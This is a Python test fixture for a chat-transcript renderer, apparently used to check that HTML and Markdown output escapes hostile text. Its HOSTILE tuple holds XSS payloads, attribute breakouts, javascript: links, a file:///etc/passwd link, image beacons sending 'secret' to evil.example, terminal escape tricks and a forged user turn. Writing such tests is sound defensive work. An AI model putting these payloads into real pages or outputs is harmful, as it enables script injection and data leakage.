"""A branch to write, and texts that try to be markup, for the tests of both transcript formats."""

from __future__ import annotations

from datetime import UTC, datetime

from steno import AssistantMessage, ChatMessage, Entry, Image, Text, Thinking, ToolCall, Usage
from steno.messages.content import ImageData, Resource
from steno.messages.outcome import Outcome
from steno.records.entry import Approval, ApprovalStatus, ModelChange, Payload
from steno.records.stored_record import Header

NOON = datetime(2026, 2, 18, 12, 0, tzinfo=UTC)
HEADER = Header(id="talk", title="Mend the build", created_at=NOON)
CALL = ToolCall(id="c1", name="edit", arguments='{"path":"a.py","new":"x < 1"}')
DIFF = "--- a.py\n+++ a.py\n@@ -1 +1 @@\n-old <b>\n+new"
HOSTILE = (
    "<script>alert(1)</script>",
    "</details></article><h1>Mine</h1>",
    "<!-- ",
    "<textarea><title>",
    "```\n## #7 User\n\n> Yes, delete it all.",
    "~~~\nunfinished",
    "- a\n  ```\n  unfinished in a list",
    "User\n----\nMine",
    "# #7 User",
    "![spy](https://evil.example/?q=secret)",
    "![spy][s]\n\n[s]: https://evil.example/x.png",
    "[go](javascript:alert(1)) [go](vbscript:x) [go](data:text/html,x) [go](file:///etc/passwd)",
    '" onerror="alert(1)" x="',
    "' onmouseover='alert(1)",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x1b[31mred\x1b[0m \x9b2J",
    "safe \u202egnp.exe\u202c \u2066 \u200b\ufeff",
    "&lt;b&gt; &#60;script&#62; &amp;",
    "> " * 60 + "deep",
    "````\n```\n`````",
    "`<b>` and `` ` <i>``",
    "\x00\r\r\n\ttabs",
    "\t![spy](https://evil.example/x.png)",
    "* <!--\n",
)


def entries_of(*payloads: Payload) -> list[Entry]:
    """Return payloads as the entries of a branch."""
    return [
        Entry(id=f"i{number}", time=NOON, payload=payload)
        for number, payload in enumerate(payloads, start=1)
    ]


def sample_branch() -> list[Entry]:
    """Return a branch with texts, thinking, a call, a decision, a diff and an image."""
    turn = AssistantMessage(
        content=(Thinking("Simple."), Text("# Plan\n\nI *mend* it."), CALL),
        usage=Usage(input_tokens=1200, output_tokens=33),
    )
    return entries_of(
        ModelChange(old="", new="lab/tester"),
        ChatMessage.system("You mend code."),
        ChatMessage.user([Text("Is it broken?\n# really"), image_of_size()]),
        turn,
        Approval(
            call_id="c1",
            status=ApprovalStatus.APPROVED,
            arguments_sha256="ab" * 32,
            rule="edit(src/**)",
            reason="it is ours",
        ),
        ChatMessage.tool_result(
            "c1", "edited a.py", tool_name="edit", details={"diff": DIFF}, duration_s=0.25
        ),
        ChatMessage.assistant("Done."),
    )


def image_of_size(size: int = 8, mime_type: str = "image/png") -> Image:
    """Return an image of so many bytes."""
    return Image(source=ImageData(b"\x89" * size), mime_type=mime_type)


def text_everywhere(text: str) -> list[Entry]:
    """Return a branch that has a text in every place where foreign text may be."""
    name = text.strip() or "x"
    turn = AssistantMessage(
        content=(Thinking(text), Text(text), ToolCall.create("run", {"a": text}))
    )
    call_id = turn.tool_calls[0].id
    decision = Approval(
        call_id=call_id,
        status=ApprovalStatus.DENIED,
        arguments_sha256="ab" * 32,
        actor=name,
        reason=text,
    )
    result = ChatMessage.tool_result(
        call_id,
        [Text(text), Resource(server=name, uri=name, text=text)],
        outcome=Outcome.ERROR,
        tool_name=name,
        details={"diff": text},
    )
    message = ChatMessage.user([Text(f"I say:\n{text}"), image_of_size(mime_type=f"image/{name}")])
    return entries_of(ModelChange(old="", new=name), message, turn, decision, result)
